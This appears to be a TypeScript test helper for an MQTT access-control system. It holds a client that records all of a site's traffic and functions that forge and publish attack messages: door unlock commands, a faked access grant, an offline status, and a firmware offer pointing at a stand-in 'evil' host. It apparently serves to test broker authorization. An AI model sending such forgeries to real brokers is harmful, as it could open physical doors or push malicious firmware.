import { randomUUID } from 'node:crypto';
import mqtt, { type MqttClient } from 'mqtt';

/** A client that records everything it hears under one site, to prove what was (not) delivered. */
export class Eavesdropper {
  readonly heard: Array<{ topic: string; payload: string }> = [];

  private constructor(readonly client: MqttClient) {
    client.on('message', (topic, payload) => this.heard.push({ topic, payload: payload.toString() }));
  }

  static async connect(url: string, siteId: string, auth: { username?: string; password?: string } = {}): Promise<Eavesdropper> {
    const client = await mqtt.connectAsync(url, { clientId: `ear-${randomUUID()}`, reconnectPeriod: 0, ...auth });
    await client.subscribeAsync(`cr/${siteId}/#`, { qos: 1 });
    return new Eavesdropper(client);
  }

  /** Messages that carry `marker` anywhere in their payload. */
  carrying(marker: string): Array<{ topic: string; payload: string }> {
    return this.heard.filter((m) => m.payload.includes(marker));
  }

  close(): Promise<void> {
    return this.client.endAsync(true);
  }
}

/** The forged messages of the attack: a door unlock, a granted answer, a firmware offer, the edge's status. */
export function forgeries(siteId: string, marker: string, doorId = 'door-lobby', readerId = 'reader-lobby'): Array<[string, string]> {
  const base = `cr/${siteId}/devices`;
  return [
    [`${base}/${doorId}/cmd`, JSON.stringify({ id: marker, action: 'unlock', reason: marker, expiresAt: Date.now() + 60_000 })],
    [`${base}/${readerId}/access/response`, JSON.stringify({ requestId: marker, granted: true, reason: 'granted', ts: Date.now() })],
    [`${base}/${doorId}/ota`, JSON.stringify({ id: marker, version: '6.6.6', url: `http://evil/${marker}`, sha256: '0'.repeat(64) })],
    [`cr/${siteId}/edge/status`, `offline ${marker}`],
    // An id outside the id pattern still matches a subscriber's `+`.
    [`${base}/DOOR-LOBBY/cmd`, JSON.stringify({ id: marker, action: 'unlock', reason: marker, expiresAt: Date.now() + 60_000 })],
  ];
}

/** Publishes each forgery from a fresh connection (a refused publish may cost the forger its connection). */
export async function publishForgeries(url: string, messages: Array<[string, string]>, auth: { username?: string; password?: string } = {}, retain = false): Promise<void> {
  await Promise.all(
    messages.map(async ([topic, payload]) => {
      const c = await mqtt.connectAsync(url, { clientId: `forger-${randomUUID()}`, reconnectPeriod: 0, ...auth });
      c.on('error', () => undefined);
      await Promise.race([c.publishAsync(topic, payload, { qos: 1, retain }).catch(() => undefined), new Promise((r) => setTimeout(r, 500))]);
      await c.endAsync(true).catch(() => undefined);
    }),
  );
}
